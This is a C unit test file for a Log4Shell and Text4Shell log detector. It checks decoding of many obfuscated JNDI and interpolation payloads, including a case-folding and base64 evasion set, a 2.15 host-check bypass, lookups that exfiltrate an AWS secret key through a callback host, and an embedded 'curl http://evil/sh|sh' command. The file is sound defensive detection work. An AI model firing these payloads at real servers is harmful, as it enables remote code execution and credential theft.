/*
 * test-log4shell.c - the Log4Shell detector (include/koban/log4shell.h): one
 * line per family of ../shared/facts/log4shell.md items 1-18, each checked
 * for its decoded payload, protocol, host, port, path, class, tags and
 * exfiltrated lookups; the false-positive traps; every limit; bytes that are
 * not UTF-8; a payload at the very end; two payloads in one line. The lines
 * are the project's own.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "koban/log4shell.h"

static kb_l4s *det;
static const kb_l4s_hit *hits;
static size_t nhits;

static int setup(void **state)
{
	(void)state;
	det = kb_l4s_new();
	return det ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	det = kb_l4s_free(det);
	return 0;
}

static size_t scan_n(const char *line, size_t len)
{
	assert_int_equal(kb_l4s_scan(det, line, len, &hits, &nhits), 0);
	if (nhits)
		assert_true(kb_l4s_prefilter(det, line, len));
	return nhits;
}

static size_t scan(const char *line)
{
	return scan_n(line, strlen(line));
}

/* One hit: its decoded payload, protocol, host, port and path. */
static const kb_l4s_hit *one(const char *line, const char *decoded, const char *proto,
                             const char *host, int port, const char *path)
{
	assert_int_equal(scan(line), 1);
	const kb_l4s_hit *h = &hits[0];
	if (decoded)
		assert_string_equal(h->decoded, decoded);
	assert_string_equal(h->protocol, proto);
	assert_string_equal(h->host, host);
	assert_int_equal(h->port, port);
	assert_string_equal(h->path, path);
	return h;
}

static void test_plain_and_offset(void **state)
{
	(void)state;
	const char *l = "203.0.113.9 - - [10/Dec/2021:10:00:00 +0000] \"GET /?x=${jndi:ldap://evil.example:1389/a} HTTP/1.1\" 200 5";
	const kb_l4s_hit *h = one(l, "${jndi:ldap://evil.example:1389/a}", "ldap", "evil.example", 1389, "/a");
	assert_int_equal(h->offset, (size_t)(strstr(l, "${") - l));
	assert_string_equal(h->raw, "${jndi:ldap://evil.example:1389/a}");
	assert_int_equal(h->raw_len, strlen(h->raw));
	assert_int_equal(h->cls, KB_L4S_ATTEMPT);
	assert_int_equal(h->family, KB_L4S_LOG4SHELL);
	assert_string_equal(h->cve, "CVE-2021-44228");
	assert_string_equal(h->domain, "evil.example");
	assert_int_equal(h->n_exfil, 0);
	assert_int_equal(h->tags, 0);
}

/* 1. every protocol, and ":/" like "://" */
static void test_protocols(void **state)
{
	(void)state;
	static const char *const protos[] = {"ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"};
	char line[256];
	for (size_t i = 0; i < sizeof protos / sizeof protos[0]; i++) {
		snprintf(line, sizeof line, "ua=${jndi:%s://cb.example:99/p}", protos[i]);
		one(line, NULL, protos[i], "cb.example", 99, "/p");
	}
	one("ua=${jndi:rmi:/cb.example/x}", "${jndi:rmi:/cb.example/x}", "rmi", "cb.example", -1, "/x");
}

/* 2. any letter case */
static void test_case(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${JNDI:LDAP://cb.example/A}", "${JNDI:LDAP://cb.example/A}", "ldap", "cb.example", -1, "/A");
	assert_true(h->tags & KB_L4S_T_CASE);
	one("${JnDi:lDaP://cb.example/a}", NULL, "ldap", "cb.example", -1, "/a");
}

/* 3. lower/upper per character, per word, nested */
static void test_lower_upper(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${${lower:J}${upper:n}${lower:D}${upper:i}:${lower:LDAP}://cb.example/z}",
	                          "${jNdI:ldap://cb.example/z}", "ldap", "cb.example", -1, "/z");
	assert_true(h->tags & KB_L4S_T_LOWER_UPPER);
	assert_true(h->tags & KB_L4S_T_NESTED);
	one("${${lower:${upper:${lower:j}}}ndi:ldap://cb.example/n}", "${jndi:ldap://cb.example/n}", "ldap", "cb.example", -1, "/n");
}

/* 4. defaults of empty and unknown lookups */
static void test_defaults(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${${::-j}${:-n}${::::::-d}${:  : :-i}:${k8s:k5:-l}dap://cb.example/${zrch-Q(NGyN:-}a}",
	                          "${jndi:ldap://cb.example/a}", "ldap", "cb.example", -1, "/a");
	assert_true(h->tags & KB_L4S_T_DEFAULT);
	assert_int_equal(h->n_exfil, 0);
}

/* 5. env, sys, main, spring with defaults */
static void test_env_defaults(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${${env:NaN:-j}ndi${sys:nope:-:}${main:\\--x:-l}${spring:a.b:-d}ap://cb.example/e}",
	                          "${jndi:ldap://cb.example/e}", "ldap", "cb.example", -1, "/e");
	assert_true(h->tags & KB_L4S_T_ENV_DEFAULT);
}

/* 6. date */
static void test_date(void **state)
{
	(void)state;
	assert_int_equal(scan("${${date:'j'}${date:'n'}${date:''}d${date:'i'}:ldap://cb.example/d}"), 0);
	/* '' is a quote in SimpleDateFormat, so the above is "jnd'i"; the real one: */
	assert_int_equal(scan("${${date:'j'}${date:'n'}${date:}d${date:'i'}:ldap://cb.example/d}"), 1);
	assert_string_equal(hits[0].decoded, "${jndi:ldap://cb.example/d}");
	assert_true(hits[0].tags & KB_L4S_T_DATE);
}

/* 7. Unicode case folding, in and out as UTF-8 */
static void test_unicode_fold(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${jnd${upper:\xC4\xB1}:ldap://cb.example/u}", "${jndI:ldap://cb.example/u}", "ldap", "cb.example", -1, "/u");
	assert_true(h->tags & KB_L4S_T_UNICODE_FOLD);
	/* ſ upper is S; K (Kelvin) lower is k */
	one("${jndi:ld${upper:a}p://${upper:\xC5\xBF}.example/${lower:\xE2\x84\xAA}}", "${jndi:ldAp://S.example/k}", "ldap", "S.example", -1, "/k");
	/* ı alone is not i: without upper it stays a non-ASCII letter */
	assert_int_equal(scan("${jnd\xC4\xB1:ldap://cb.example/u}"), 0);
}

/* 8. nested */
static void test_nested(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${${::-${::-${::-j}}}ndi:${lower:${::-L}}dap://cb.example/n}",
	                          "${jndi:ldap://cb.example/n}", "ldap", "cb.example", -1, "/n");
	assert_true(h->tags & KB_L4S_T_NESTED);
}

/* 9. URL encoding: single, double, partial */
static void test_url(void **state)
{
	(void)state;
	const char *l = "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fcb.example%2Fa%7D HTTP/1.1";
	const kb_l4s_hit *h = one(l, "${jndi:ldap://cb.example/a}", "ldap", "cb.example", -1, "/a");
	assert_int_equal(h->offset, 8);
	assert_string_equal(h->raw, "%24%7Bjndi%3Aldap%3A%2F%2Fcb.example%2Fa%7D");
	assert_true(h->tags & KB_L4S_T_URL);
	assert_false(h->tags & KB_L4S_T_URL_MULTI);
	h = one("GET /?q=%2524%257Bjndi:ldap://cb.example/b%257D HTTP/1.1", "${jndi:ldap://cb.example/b}", "ldap", "cb.example", -1, "/b");
	assert_true(h->tags & KB_L4S_T_URL_MULTI);
	h = one("GET /?q=$%7Bjndi:ldap://cb.example/c%7d", "${jndi:ldap://cb.example/c}", "ldap", "cb.example", -1, "/c");
	assert_int_equal(h->offset, 8);
}

/* 10. escapes */
static void test_escapes(void **state)
{
	(void)state;
	const char *l = "{\"m\":\"\\u0024{jndi:ldap://a.example/u}\"} \\044{jndi:rmi://b.example/o} \\\\44{jndi:dns://c.example/d} \\x24\\x7bjndi:ldap://d.example/x\\x7d";
	assert_int_equal(scan(l), 4);
	assert_string_equal(hits[0].host, "a.example");
	assert_true(hits[0].tags & KB_L4S_T_UNICODE_ESC);
	assert_string_equal(hits[1].host, "b.example");
	assert_true(hits[1].tags & KB_L4S_T_OCTAL_ESC);
	assert_string_equal(hits[2].protocol, "dns");
	assert_string_equal(hits[2].decoded, "${jndi:dns://c.example/d}");
	assert_string_equal(hits[3].host, "d.example");
	/* HTML entities */
	const kb_l4s_hit *h = one("q=&#36;&#x7B;jndi:ldap://e.example/h&rbrace;", "${jndi:ldap://e.example/h}", "ldap", "e.example", -1, "/h");
	assert_true(h->tags & KB_L4S_T_HTML);
}

/* 11. base64 lookup */
static void test_base64_lookup(void **state)
{
	(void)state;
	/* base64("${jndi:ldap://f.example/b}") */
	const kb_l4s_hit *h = one("${base64:JHtqbmRpOmxkYXA6Ly9mLmV4YW1wbGUvYn0=}", "${jndi:ldap://f.example/b}", "ldap", "f.example", -1, "/b");
	assert_true(h->tags & KB_L4S_T_BASE64_LOOKUP);
	assert_int_equal(h->offset, 0);
}

/* 12. the whole payload base64-encoded, at the three alignments */
static void test_base64_whole(void **state)
{
	(void)state;
	/* "user:${jndi:ldap://g.example/a}" (alignment 2) */
	const char *l = "GET / HTTP/1.1 Authorization: Basic dXNlcjoke2puZGk6bGRhcDovL2cuZXhhbXBsZS9hfQ== x";
	const kb_l4s_hit *h = one(l, "${jndi:ldap://g.example/a}", "ldap", "g.example", -1, "/a");
	assert_true(h->tags & KB_L4S_T_BASE64_WHOLE);
	assert_int_equal(h->offset, (size_t)(strstr(l, "dXNl") - l));
	/* "${jndi:ldap://g.example/a}" (alignment 0) and "x${jndi:...}" (alignment 1) */
	one("X-Api-Token: JHtqbmRpOmxkYXA6Ly9nLmV4YW1wbGUvYX0", "${jndi:ldap://g.example/a}", "ldap", "g.example", -1, "/a");
	one("token=eCR7am5kaTpsZGFwOi8vZy5leGFtcGxlL2F9", "${jndi:ldap://g.example/a}", "ldap", "g.example", -1, "/a");
}

/* 13. split across JSON string values */
static void test_json_split(void **state)
{
	(void)state;
	const char *l = "{\"ua\":\"${jn\",\"ref\":\"di:ldap://h.example/j}\",\"n\":3}";
	const kb_l4s_hit *h = one(l, "${jndi:ldap://h.example/j}", "ldap", "h.example", -1, "/j");
	assert_true(h->tags & KB_L4S_T_JSON_SPLIT);
	assert_int_equal(h->offset, 7);
	/* a JSON line whose payload is whole in one value gives one hit, not two */
	assert_int_equal(scan("{\"a\":\"${jndi:ldap://h.example/k}\",\"b\":\"x\"}"), 1);
	assert_false(hits[0].tags & KB_L4S_T_JSON_SPLIT);
}

/* 14. the 2.15 host-check bypass */
static void test_hash_bypass(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${jndi:ldap://127.0.0.1#evil.example:1389/a}", NULL, "ldap", "evil.example", 1389, "/a");
	assert_string_equal(h->host_decoy, "127.0.0.1");
	assert_true(h->tags & KB_L4S_T_HASH_BYPASS);
	assert_string_equal(h->cve, "CVE-2021-45046");
}

/* 15. exfiltration through the callback name */
static void test_exfil(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.x.example/${sys:java.version}}",
	                          NULL, "ldap", "${env:AWS_SECRET_ACCESS_KEY}.${hostName}.x.example", -1, "/${sys:java.version}");
	assert_int_equal(h->n_exfil, 3);
	assert_string_equal(h->exfil[0], "${env:AWS_SECRET_ACCESS_KEY}");
	assert_string_equal(h->exfil[1], "${hostName}");
	assert_string_equal(h->exfil[2], "${sys:java.version}");
	assert_string_equal(h->domain, "x.example");
	assert_true(h->tags & KB_L4S_T_EXFIL);
	/* obfuscated lookups inside are kept as they evaluate */
	h = one("${jndi:dns://${${lower:E}nv:USER}.y.example}", NULL, "dns", "${env:USER}.y.example", -1, "");
	assert_string_equal(h->exfil[0], "${env:USER}");
}

/* 16. recursion (CVE-2021-45105) */
static void test_recursion(void **state)
{
	(void)state;
	assert_int_equal(scan("ctx=${${::-${::-$${::-j}}}}"), 1);
	assert_true(hits[0].tags & KB_L4S_T_RECURSION);
	assert_string_equal(hits[0].cve, "CVE-2021-45105");
	assert_int_equal(hits[0].offset, 4);
	assert_string_equal(hits[0].protocol, "");
	/* an escape at the top is only text */
	assert_int_equal(scan("pattern $${ctx:user} here"), 0);
}

/* 17. exploit-kit paths */
static void test_exploit_kit(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${jndi:ldap://198.51.100.4:1389/Basic/Command/Base64/Y3VybCBodHRwOi8vZXZpbC9zaHxzaA==}",
	                          NULL, "ldap", "198.51.100.4", 1389, "/Basic/Command/Base64/Y3VybCBodHRwOi8vZXZpbC9zaHxzaA==");
	assert_string_equal(h->command, "curl http://evil/sh|sh");
	assert_true(h->tags & KB_L4S_T_EXPLOIT_KIT);
}

/* 18. Text4Shell */
static void test_text4shell(void **state)
{
	(void)state;
	assert_int_equal(scan("a=${script:javascript:java.lang.Runtime.getRuntime().exec('id')} b=${url:UTF-8::https://t.example:8443/p} c=${dns:address|u.example}"), 3);
	assert_int_equal(hits[0].family, KB_L4S_TEXT4SHELL);
	assert_string_equal(hits[0].cve, "CVE-2022-42889");
	assert_string_equal(hits[0].command, "java.lang.Runtime.getRuntime().exec('id')");
	assert_string_equal(hits[1].protocol, "https");
	assert_string_equal(hits[1].host, "t.example");
	assert_int_equal(hits[1].port, 8443);
	assert_string_equal(hits[1].path, "/p");
	assert_string_equal(hits[2].host, "u.example");
	assert_string_equal(kb_l4s_family_name(hits[2].family), "text4shell");
}

static void test_scanner(void **state)
{
	(void)state;
	const kb_l4s_hit *h = one("${jndi:ldap://${hostName}.c6qs1a.interact.sh/a}", NULL, "ldap", "${hostName}.c6qs1a.interact.sh", -1, "/a");
	assert_int_equal(h->cls, KB_L4S_SCANNER);
	assert_string_equal(h->indicator, "interact.sh");
	assert_string_equal(h->domain, "c6qs1a.interact.sh");
	static const char *const lines[] = {"${jndi:ldap://nessus.example/x}", "${jndi:dns://QUALYSTEST.example/}",
	                                    "${jndi:ldap://x.oast.fun/a}", "${jndi:ldap://abc.canarytokens.com/a}",
	                                    "${jndi:dns://q.dnslog.cn/a}", "${jndi:ldap://z.burpcollaborator.net/a}"};
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
		assert_int_equal(scan(lines[i]), 1);
		assert_int_equal(hits[0].cls, KB_L4S_SCANNER);
	}
	assert_string_equal(kb_l4s_class_name(KB_L4S_SCANNER), "scanner");
}

static void test_success_and_second_stage(void **state)
{
	(void)state;
	static const char *const signs[] = {"com.sun.jndi.ldap.LdapCtx@", "com.sun.jndi.dns.DnsContext@",
	                                    "javax.el.ELProcessor@", "groovy.lang.GroovyShell@",
	                                    "BadAttributeValueException"};
	char line[256];
	for (size_t i = 0; i < sizeof signs / sizeof signs[0]; i++) {
		snprintf(line, sizeof line, "2021-12-12 INFO user agent: %s5e0b2f1c", signs[i]);
		assert_int_equal(scan(line), 1);
		assert_int_equal(hits[0].cls, KB_L4S_SUCCESS);
		assert_int_equal(hits[0].offset, 28);
		assert_string_equal(hits[0].indicator, signs[i]);
	}
	assert_int_equal(scan("ERROR Error looking up JNDI resource [ldap://k.example:1389/o]."), 1);
	assert_int_equal(hits[0].cls, KB_L4S_SUCCESS);
	assert_string_equal(hits[0].host, "k.example");
	assert_int_equal(hits[0].port, 1389);

	assert_int_equal(scan("203.0.113.5 - - [12/Dec/2021] \"GET /ExploitQ8v7ygBW4i.class HTTP/1.1\" 200 1160 \"-\" \"Java/1.8.0_181\""), 1);
	assert_int_equal(hits[0].cls, KB_L4S_SECOND_STAGE);
	assert_string_equal(hits[0].path, "/ExploitQ8v7ygBW4i.class");
	assert_string_equal(hits[0].indicator, "ExploitQ8v7ygBW4i.class");
	assert_int_equal(scan("203.0.113.5 - - \"GET /ExecTemplateJDK7.class HTTP/1.1\" 200 1 \"-\" \"-\""), 1);
	assert_int_equal(hits[0].cls, KB_L4S_SECOND_STAGE);
	/* a .class without the Java agent and not a known template is not */
	assert_int_equal(scan("203.0.113.5 - - \"GET /Main.class HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\""), 0);
}

static void test_traps(void **state)
{
	(void)state;
	static const char *const traps[] = {
		"Dec 12 debconf: template partman/confirm: ${REMOVED_DEVICES} will be erased; ${HOME}",
		"server.port=${server.port} url=jdbc:${db.url:-h2} user=${USER}",
		"export PATH=${HOME}/bin:${PATH}; echo ${#arr[@]}",
		"The jndi: lookup was disabled by default in 2.16, see JNDI and ldap:// docs",
		"${jndi} without a protocol, ${jndi:java:comp/env/jdbc/x}, ${jndi:}",
		"GET /search?q=%7Bfoo%7D&price=%24100&x=%2520 HTTP/1.1",
		"GET /a?d=QUJDSHtqbmRpOnh5eno0NTY3ODkwQUJDREVGR0hJSktMTU5PUFFSU1RVVldY HTTP/1.1",
		"blob=eyJhIjoiSHRxYm1SaSJ9JHtqbmRpOmZvb2JhcmJheg== end",
		"cost $5 {discount} $ { not } $${x} ${",
		"jndi:ldap://evil.example/a without any lookup",
	};
	for (size_t i = 0; i < sizeof traps / sizeof traps[0]; i++)
		assert_int_equal(scan(traps[i]), 0);
	/* ordinary access lines do not even pass the pre-filter */
	const char *ok = "198.51.100.7 - - [12/Dec/2021:10:00:00 +0000] \"GET /index.html?q=red%20shoes&page=2 HTTP/1.1\" 200 512 \"https://shop.example/\" \"Mozilla/5.0 (X11; Linux x86_64)\"";
	assert_false(kb_l4s_prefilter(det, ok, strlen(ok)));
}

static void test_bytes_and_positions(void **state)
{
	(void)state;
	/* bytes that are not UTF-8 around a payload, and at its end with no newline */
	const char l[] = "\xff\xfe\x80 ua=\xc3${jndi:ldap://m.example/\xe9}";
	assert_int_equal(scan_n(l, sizeof l - 1), 1);
	assert_int_equal(hits[0].offset, 8);
	assert_int_equal(hits[0].offset + hits[0].raw_len, sizeof l - 1);
	assert_string_equal(hits[0].path, "/\xe9");
	/* cut just before the '}': no payload */
	assert_int_equal(scan_n(l, sizeof l - 2), 0);
	/* two payloads in one line, in order */
	assert_int_equal(scan("a=${jndi:ldap://one.example/1} b=%24%7Bjndi:rmi://two.example/2%7D"), 2);
	assert_string_equal(hits[0].host, "one.example");
	assert_string_equal(hits[1].host, "two.example");
	assert_true(hits[0].offset < hits[1].offset);
	/* embedded NUL bytes do not stop the scan */
	const char z[] = "a\0b ${jndi:ldap://n.example/z}";
	assert_int_equal(scan_n(z, sizeof z - 1), 1);
	assert_int_equal(hits[0].offset, 4);
}

static void test_long_line(void **state)
{
	(void)state;
	size_t n = (size_t)1 << 20;
	char *l = malloc(n + 1);
	assert_non_null(l);
	memset(l, 'a', n);
	const char *p = "${jndi:ldap://far.example/z}";
	size_t at = n - strlen(p) - 100000;
	memcpy(l + at, p, strlen(p));
	memcpy(l + 10, p, strlen(p));
	assert_int_equal(scan_n(l, n), 2);
	assert_int_equal(hits[0].offset, 10);
	assert_int_equal(hits[1].offset, at);
	free(l);
}

/* ---------- limits ---------- */

static char *repeat(const char *a, size_t times, const char *mid, const char *b)
{
	size_t n = strlen(a) * times + strlen(mid) + strlen(b) * times + 1;
	char *s = malloc(n);
	assert_non_null(s);
	s[0] = '\0';
	for (size_t i = 0; i < times; i++)
		strcat(s, a);
	strcat(s, mid);
	for (size_t i = 0; i < times; i++)
		strcat(s, b);
	return s;
}

static void test_limit_depth(void **state)
{
	(void)state;
	/* within the limit: found */
	char *s = repeat("${::-", KB_L4S_MAX_DEPTH - 2, "${jndi:ldap://d.example/a}", "}");
	assert_int_equal(scan(s), 1);
	assert_int_equal(kb_l4s_limits(det) & KB_L4S_LIMIT_DEPTH, 0);
	free(s);
	/* past it: evaluation stops at the limit and says so, quickly */
	s = repeat("${::-", 5000, "${jndi:ldap://d.example/a}", "}");
	scan(s);
	assert_true(kb_l4s_limits(det) & (KB_L4S_LIMIT_DEPTH | KB_L4S_LIMIT_EXPR));
	free(s);
	s = repeat("${", 20000, "x", "}");
	scan(s);
	assert_true(kb_l4s_limits(det) & (KB_L4S_LIMIT_DEPTH | KB_L4S_LIMIT_EXPR));
	free(s);
}

static void test_limit_expr(void **state)
{
	(void)state;
	size_t pad = KB_L4S_MAX_EXPR;
	char *s = malloc(pad + 64);
	assert_non_null(s);
	strcpy(s, "${jndi:ldap://e.example/");
	size_t l = strlen(s);
	memset(s + l, 'a', pad);
	strcpy(s + l + pad, "}");
	assert_int_equal(scan(s), 0);
	assert_true(kb_l4s_limits(det) & KB_L4S_LIMIT_EXPR);
	free(s);
}

static void test_limit_rounds(void **state)
{
	(void)state;
	/* '$' URL-encoded KB_L4S_MAX_DECODE_ROUNDS times (%25...2524) needs that
	 * many rounds: found */
	char buf[512] = "%";
	for (int i = 1; i < KB_L4S_MAX_DECODE_ROUNDS; i++)
		strcat(buf, "25");
	strcat(buf, "24{jndi:ldap://r.example/a}");
	assert_int_equal(scan(buf), 1);
	assert_int_equal(kb_l4s_limits(det) & KB_L4S_LIMIT_ROUNDS, 0);
	/* one more layer: the round limit */
	memmove(buf + 3, buf + 1, strlen(buf));
	memcpy(buf + 1, "25", 2);
	assert_int_equal(scan(buf), 0);
	assert_true(kb_l4s_limits(det) & KB_L4S_LIMIT_ROUNDS);
}

static void test_limit_output_and_steps(void **state)
{
	(void)state;
	/* İ lowers to three bytes from two: nested lower calls grow the text */
	char *s = repeat("${lower:", 14, "\xC4\xB0\xC4\xB0\xC4\xB0\xC4\xB0\xC4\xB0\xC4\xB0\xC4\xB0\xC4\xB0", "}");
	scan(s);
	free(s);
	/* a big value re-evaluated: the output ceiling */
	size_t n = KB_L4S_MAX_OUTPUT + 100;
	char *big = malloc(n + 64);
	assert_non_null(big);
	strcpy(big, "${::-");
	memset(big + 5, 'x', n);
	strcpy(big + 5 + n, "}");
	scan(big);
	assert_true(kb_l4s_limits(det) & (KB_L4S_LIMIT_OUTPUT | KB_L4S_LIMIT_EXPR));
	free(big);
	/* deep defaults over many kept lookups: every level evaluates the value
	 * again, which the step budget stops */
	char *inner = repeat("${x}", 1990, "", "");
	char *deep = repeat("${::-", KB_L4S_MAX_DEPTH - 1, inner, "}");
	s = repeat(deep, 8, "", "");
	scan(s);
	assert_true(kb_l4s_limits(det) & KB_L4S_LIMIT_STEPS);
	free(s);
	free(deep);
	free(inner);
}

static void test_limit_hits_and_exfil(void **state)
{
	(void)state;
	char *s = repeat("${jndi:ldap://h.example/a} ", KB_L4S_MAX_HITS + 5, "", "");
	assert_int_equal(scan(s), KB_L4S_MAX_HITS);
	assert_true(kb_l4s_limits(det) & KB_L4S_LIMIT_HITS);
	free(s);
	s = repeat("${jndi:ldap://", 1, "", "");
	free(s);
	char line[1024] = "${jndi:ldap://";
	for (int i = 0; i < KB_L4S_MAX_EXFIL + 3; i++)
		strcat(line, "${env:A}.");
	strcat(line, "x.example/a}");
	assert_int_equal(scan(line), 1);
	assert_int_equal(hits[0].n_exfil, KB_L4S_MAX_EXFIL);
	assert_true(hits[0].limits & KB_L4S_LIMIT_EXFIL);
}

static void test_names(void **state)
{
	(void)state;
	assert_string_equal(kb_l4s_class_name(KB_L4S_SECOND_STAGE), "second-stage");
	assert_string_equal(kb_l4s_tag_name(KB_L4S_T_URL_MULTI), "url-multi");
	assert_string_equal(kb_l4s_tag_name(KB_L4S_T_EXPLOIT_KIT), "exploit-kit");
	assert_null(kb_l4s_tag_name(3));
	for (int i = 0; i < KB_L4S_TAG_COUNT; i++)
		assert_non_null(kb_l4s_tag_name(1u << i));
	assert_null(kb_l4s_free(NULL));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_and_offset),
		cmocka_unit_test(test_protocols),
		cmocka_unit_test(test_case),
		cmocka_unit_test(test_lower_upper),
		cmocka_unit_test(test_defaults),
		cmocka_unit_test(test_env_defaults),
		cmocka_unit_test(test_date),
		cmocka_unit_test(test_unicode_fold),
		cmocka_unit_test(test_nested),
		cmocka_unit_test(test_url),
		cmocka_unit_test(test_escapes),
		cmocka_unit_test(test_base64_lookup),
		cmocka_unit_test(test_base64_whole),
		cmocka_unit_test(test_json_split),
		cmocka_unit_test(test_hash_bypass),
		cmocka_unit_test(test_exfil),
		cmocka_unit_test(test_recursion),
		cmocka_unit_test(test_exploit_kit),
		cmocka_unit_test(test_text4shell),
		cmocka_unit_test(test_scanner),
		cmocka_unit_test(test_success_and_second_stage),
		cmocka_unit_test(test_traps),
		cmocka_unit_test(test_bytes_and_positions),
		cmocka_unit_test(test_long_line),
		cmocka_unit_test(test_limit_depth),
		cmocka_unit_test(test_limit_expr),
		cmocka_unit_test(test_limit_rounds),
		cmocka_unit_test(test_limit_output_and_steps),
		cmocka_unit_test(test_limit_hits_and_exfil),
		cmocka_unit_test(test_names),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
